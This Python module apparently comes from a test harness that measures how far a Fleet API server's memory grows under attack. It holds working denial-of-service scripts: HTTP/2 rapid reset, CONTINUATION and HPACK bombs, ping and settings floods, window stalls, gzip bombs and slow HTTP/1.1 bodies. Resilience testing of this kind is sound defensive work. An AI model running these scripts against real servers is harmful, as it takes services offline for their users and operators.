"""The attacks: what one connection of each sends, frame by frame."""

from __future__ import annotations

import gzip
import itertools
import math
import os
import ssl
import zlib
from collections.abc import Callable, Iterator, Mapping
from functools import partial
from typing import Any, TypeAlias

import attrs
from h2.errors import ErrorCodes
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)
from peering.http2 import PREFACE, block, grpc_call, grpc_fields, grpc_head

MEGABYTE = 10**6

ANSWER = 64 * MEGABYTE
"""Bytes of each of the large answers that wait."""
ANSWERS = 16
"""How many of them wait; it bounds what the attacks that pull them can take."""

_LARGEST_FRAME = 16_384
_LARGEST_WINDOW = 2**31 - 1
_INITIAL_WINDOW_SIZE = SettingsFrame.INITIAL_WINDOW_SIZE


@attrs.frozen
class Target:
    """The Fleet API that is attacked, and what its calls look like."""

    address: str
    rest: bool
    tls: ssl.SSLContext | None
    pull: bytes
    """A PullTaskInsRequest of a node for which large tasks are waiting."""
    idle_pull: bytes
    """A PullTaskInsRequest of an anonymous node, for which there are none: all of them are held."""

    def post(self, path: str, length: int | None) -> bytes:
        """Give the head of a call over REST; None is for a body in chunks."""
        body = "transfer-encoding: chunked" if length is None else f"content-length: {length}"
        media = "application/protobuf"
        return (
            f"POST /api/v0/fleet/{path} HTTP/1.1\r\nhost: localhost\r\n{body}\r\n"
            f"content-type: {media}\r\naccept: {media}\r\n\r\n"
        ).encode()

    def fields(self, call: str) -> list[tuple[bytes, bytes]]:
        """Give the header fields of a call over gRPC."""
        return grpc_fields(call, scheme=b"http" if self.tls is None else b"https")

    def call(self, stream: int, call: str, message: bytes) -> list[Frame]:
        """Give the frames of a whole call over gRPC."""
        return grpc_call(stream, self.fields(call), message)


Pieces: TypeAlias = Iterator[Frame | bytes]
"""What a connection sends: frames of HTTP/2, or requests and parts of them."""

Script: TypeAlias = Callable[[Target], Pieces]


@attrs.frozen(kw_only=True)
class Attack:
    """What is done to a server, and what that may cost it."""

    name: str
    script: Script
    connections: int = 4
    """As many at the same time; one that ends is followed by another."""
    rest_after: float = math.inf
    """Seconds for which one that has sent everything is kept open."""
    reads: bool = True
    text: bool = False
    """Whether this is HTTP/1.1, or nothing at all; else it is HTTP/2, and not for REST."""
    at_once: int = 200
    """How many pieces are sent together."""
    handshake: bool = True
    """Whether a TLS handshake is completed first."""
    settings: Mapping[int, int] = attrs.field(factory=dict)
    memory: int = 100 * MEGABYTE
    """Bytes by which the server may grow meanwhile."""
    memory_grpc: int | None = None
    """The same for gRPC, where that is another figure."""
    large_answers: bool = False
    rest: bool | None = None
    """Whether it is for REST only, or for gRPC only."""

    def is_for(self, *, rest: bool) -> bool:
        """Say whether a server over REST, or over gRPC, can be attacked like this."""
        return self.rest in (None, rest) and (self.text or not rest)


ATTACKS: list[Attack] = []

# A gRPC call whose head is too large takes up to 1.2 MB until it ends, and nothing that can be set
# makes that less: 1,024 streams on each of 4 connections.
_LARGE_HEADS = 4 * 1200 * MEGABYTE

# A head that does not end is seen by nobody but gRPC, which keeps ten to twenty times as much:
# nothing bounds it but the frames that are sent here.
_ENDLESS_HEADS = 5000 * MEGABYTE

# grpc copies each answer; REST sends what the API made.
_LARGE = ANSWER * ANSWERS + 100 * MEGABYTE
_WINDOW_0: Mapping[str, Any] = {
    "connections": 1,
    "settings": {_INITIAL_WINDOW_SIZE: 0},
    "large_answers": True,
    "memory_grpc": 2 * ANSWER * ANSWERS + 100 * MEGABYTE,
}

# What requests may have together.
_BODIES = 2**31 + 100 * MEGABYTE

# Seconds until one that has sent everything gives way to the next.
_AT_ONCE = 0.05


def attack(name: str, **how: Any) -> Callable[[Script], Script]:
    """Add an attack with this script; `how` names fields of `Attack`."""

    def add(script: Script) -> Script:
        ATTACKS.append(Attack(name=name, script=script, **how))
        return script

    return add


text_attack = partial(attack, text=True, at_once=1)
http1_attack = partial(text_attack, rest=True)


def _streams() -> Iterator[int]:
    return itertools.count(1, 2)


def _first_streams() -> range:
    return range(1, 2 * ANSWERS, 2)


def _hpack_length(length: int) -> bytes:
    # RFC 7541, 5.1: an integer with a prefix of 7 bits.
    encoded, rest = bytearray([0x7F]), length - 0x7F
    while rest > 0x7F:
        encoded.append(rest & 0x7F | 0x80)
        rest >>= 7
    encoded.append(rest)
    return bytes(encoded)


def _cut(data: bytes) -> list[bytes]:
    return [data[start : start + _LARGEST_FRAME] for start in range(0, len(data), _LARGEST_FRAME)]


@text_attack("none", connections=0)
def nothing(_: Target) -> Pieces:
    """No attack: what everything else is compared with."""
    yield from ()


@attack("rapid reset")
def rapid_reset(target: Target) -> Pieces:
    """Calls that are held, each given up at once (CVE-2023-44487)."""
    for stream in _streams():
        yield from target.call(stream, "PullTaskIns", target.idle_pull)
        yield RstStreamFrame(stream, ErrorCodes.CANCEL)


@attack("endless headers", at_once=50, memory_grpc=250 * MEGABYTE)
def endless_headers(target: Target) -> Pieces:
    """A head that goes on in CONTINUATION frames without end (CVE-2024-27316)."""
    yield HeadersFrame(1, block(target.fields("Ping")), flags=["END_STREAM"])
    yield from itertools.repeat(ContinuationFrame(1, block([(b"x", bytes(1000))])))


@attack("CONTINUATION flood", at_once=20, memory_grpc=_ENDLESS_HEADS)
def continued_headers(target: Target) -> Pieces:
    """The same with as many fields in a frame as are let through; each grows tenfold."""
    yield HeadersFrame(1, block(target.fields("Ping")), flags=["END_STREAM"])
    yield from itertools.repeat(ContinuationFrame(1, b"\0\x01x\x01y" * 430))


@attack("HPACK bomb", at_once=2, memory_grpc=_LARGE_HEADS)
def compressed_headers(target: Target) -> Pieces:
    """Heads of 16 KB that unpack to 64 MB: one field of 4 KB, named again and again."""
    known = block(target.fields("Ping"))
    name, value = b"x", b"y" * 4000
    literal = b"\x40" + bytes([len(name)]) + name + _hpack_length(len(value)) + value
    again = b"\xbe" * (_LARGEST_FRAME - 100)
    for stream in _streams():
        yield HeadersFrame(stream, known + literal, flags=["END_STREAM"])
        yield ContinuationFrame(stream, again, flags=["END_HEADERS"])


@attack("header field of 1 MB", at_once=64, memory_grpc=_LARGE_HEADS)
def large_header(target: Target) -> Pieces:
    """Heads with one field of 1 MB."""
    first, *more, last = _cut(block([*target.fields("Ping"), (b"x", bytes(MEGABYTE))]))
    for stream in _streams():
        yield HeadersFrame(stream, first, flags=["END_STREAM"])
        yield from (ContinuationFrame(stream, piece) for piece in more)
        yield ContinuationFrame(stream, last, flags=["END_HEADERS"])


@attack("SETTINGS flood, reads nothing", reads=False)
@attack("SETTINGS flood")
def settings_flood(_: Target) -> Pieces:
    """SETTINGS, each of which has to be acknowledged."""
    for size in itertools.cycle([65_535, 65_534]):
        yield SettingsFrame(settings={_INITIAL_WINDOW_SIZE: size})


@attack("PING flood, reads nothing", reads=False)
@attack("PING flood")
def ping_flood(_: Target) -> Pieces:
    """PING, each of which has to be answered."""
    yield from itertools.repeat(PingFrame(opaque_data=b"pingping"))


@attack("PRIORITY flood")
def priority_flood(_: Target) -> Pieces:
    """PRIORITY, for streams that are and that are not, in ever new orders (CVE-2019-9513)."""
    for stream in _streams():
        yield PriorityFrame(stream, depends_on=max(0, stream - 2), stream_weight=stream % 256)


@attack("empty DATA flood")
def empty_data(target: Target) -> Pieces:
    """A body of DATA frames with nothing in them (CVE-2019-9518)."""
    yield HeadersFrame(1, block(target.fields("Ping")), flags=["END_HEADERS"])
    yield from itertools.repeat(DataFrame(1))


@attack(f"{ANSWERS} answers of 64 MB, window 0", **_WINDOW_0)
def zero_window(target: Target) -> Pieces:
    """Pulls of large answers, with no room to send them into."""
    for stream in _first_streams():
        yield from target.call(stream, "PullTaskIns", target.pull)


@attack(f"{ANSWERS} answers of 64 MB, byte by byte", at_once=ANSWERS, **_WINDOW_0)
def tiny_windows(target: Target) -> Pieces:
    """Pulls of large answers, let through byte by byte."""
    yield from zero_window(target)
    for stream in itertools.cycle(_first_streams()):
        yield WindowUpdateFrame(stream, 1)


@attack(
    "streams with half a request", at_once=100, settings={_INITIAL_WINDOW_SIZE: _LARGEST_WINDOW}
)
def half_requests(target: Target) -> Pieces:
    """Ever more calls whose bodies have begun and never end."""
    fields = block(target.fields("PushTaskRes"))
    begun = grpc_head(512 * 2**20) + b"\x0a"
    for stream in _streams():
        yield HeadersFrame(stream, fields, flags=["END_HEADERS"])
        yield DataFrame(stream, begun)


@attack("gzip and deflate bombs", connections=24, rest_after=1, rest=False)
def compressed_bodies(target: Target) -> Pieces:
    """A body of 64 KB that unpacks to a thousand times as much, by each of gRPC's two methods."""
    zeros = bytes(55 * 2**20)
    bodies = {b"gzip": gzip.compress(zeros), b"deflate": zlib.compress(zeros)}
    for stream, (name, body) in zip(_streams(), bodies.items(), strict=False):
        fields = [*target.fields("PushTaskRes"), (b"grpc-encoding", name)]
        yield HeadersFrame(stream, block(fields), flags=["END_HEADERS"])
        yield from (DataFrame(stream, piece) for piece in _cut(grpc_head(len(body), True) + body))
        yield DataFrame(stream, flags=["END_STREAM"])


@attack("streams with a held pull", at_once=100)
def held_pulls(target: Target) -> Pieces:
    """Ever more pulls that are held."""
    for stream in _streams():
        yield from target.call(stream, "PullTaskIns", target.idle_pull)


@text_attack("connections without a word", connections=500)
def silence(_: Target) -> Pieces:
    """Connections that say nothing."""
    yield from ()


@text_attack("half a handshake", connections=500, handshake=False)
def half_a_hello(target: Target) -> Pieces:
    """Connections that begin with half of what comes first, and no more."""
    if target.tls is None:
        yield b"POST /api/v0/fl" if target.rest else b"PRI * HT"
    else:
        yield b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + os.urandom(32)


@text_attack("noise", handshake=False)
def noise(_: Target) -> Pieces:
    """Random bytes instead of a preface."""
    while True:
        yield os.urandom(1000)


@attack("path or method not UTF-8", at_once=1, rest_after=_AT_ONCE)
def strange_first_lines(target: Target) -> Pieces:
    """Calls whose path or method is not ASCII, and not even UTF-8."""
    fields = dict(target.fields("Ping"))
    strange = ((b":path", b"/\xff\xfe"), (b":path", b"/\xc3\xa9"), (b":method", b"P\xff"))
    for name, value in strange:
        head = block([*{**fields, name: value}.items()])
        yield HeadersFrame(1, head, flags=["END_HEADERS", "END_STREAM"])


@http1_attack("WebSocket upgrade", rest_after=_AT_ONCE)
def websocket_upgrade(_: Target) -> Pieces:
    """An upgrade to WebSocket with a byte too many."""
    yield (
        b"GET /api/v0/fleet/ping HTTP/1.1\r\nhost: x\r\nconnection: upgrade\r\n"
        b"upgrade: websocket\r\nsec-websocket-version: 13\r\nsec-websocket-key: x\r\n\r\nx"
    )


@http1_attack("upgrade to HTTP/2", rest_after=_AT_ONCE)
def upgrade_to_http2(_: Target) -> Pieces:
    """An upgrade to HTTP/2 of a request whose path is not ASCII."""
    yield (
        b"GET /\xe9 HTTP/1.1\r\nhost: x\r\nconnection: upgrade, http2-settings\r\n"
        b"upgrade: h2c\r\nhttp2-settings: AAMAAABkAAQAAP__\r\n\r\n"
    )


@http1_attack("HTTP/2, unasked", at_once=51, rest_after=_AT_ONCE)
def prior_knowledge(_: Target) -> Pieces:
    """HTTP/2 without having asked for it."""
    yield PREFACE + SettingsFrame().serialize()
    yield from itertools.repeat(PingFrame(opaque_data=b"pingping"), 50)


@http1_attack("body after its answer", rest_after=_AT_ONCE)
def body_after_answer(target: Target) -> Pieces:
    """A body that goes on after its early answer."""
    yield target.post("ping", 10**9)
    yield from itertools.repeat(bytes(100), 50)


@attack("CONNECT without a path", rest_after=_AT_ONCE)
def connect_without_path(_: Target) -> Pieces:
    """CONNECT, which has no path."""
    head = block([(b":method", b"CONNECT"), (b":authority", b"localhost")])
    yield HeadersFrame(1, head, flags=["END_HEADERS", "END_STREAM"])


@http1_attack("HTTP/1.1 head without end")
def http1_without_end(_: Target) -> Pieces:
    """Header fields of HTTP/1.1 without end."""
    yield b"POST /api/v0/fleet/ping HTTP/1.1\r\nhost: x\r\n"
    yield from itertools.repeat(b"x: " + b"y" * 200 + b"\r\n")


@http1_attack("4 bodies in small pieces")
def trickled_bodies(target: Target) -> Pieces:
    """Pushes of 512 MiB that have begun, and go on by 4 KB at a time."""
    yield target.post("push-task-res", 512 * 2**20)
    yield from itertools.repeat(bytes(4096))


@http1_attack("100 bodies that stall", connections=100, memory=_BODIES)
def stalled_bodies(target: Target) -> Pieces:
    """Pushes of 512 MiB of which 40 MB come at once, and then no more."""
    yield target.post("push-task-res", 512 * 2**20)
    yield from itertools.repeat(bytes(MEGABYTE), 40)


@http1_attack("chunks of one byte", at_once=200)
def chunks_of_one_byte(target: Target) -> Pieces:
    """A body whose every byte is a chunk."""
    yield target.post("push-task-res", None)
    yield from itertools.repeat(b"1\r\nx\r\n")


@http1_attack(
    f"{ANSWERS} answers of 64 MB that nobody reads",
    connections=ANSWERS,
    reads=False,
    large_answers=True,
    memory=_LARGE,
)
def unread_answers(target: Target) -> Pieces:
    """A pull of a large answer that nobody reads."""
    yield target.post("pull-task-ins", len(target.pull)) + target.pull


@http1_attack("pulls behind a held pull", at_once=50)
def pipelined_pulls(target: Target) -> Pieces:
    """Pulls that are held, one behind the other."""
    one = target.post("pull-task-ins", len(target.idle_pull)) + target.idle_pull
    yield from itertools.repeat(one)
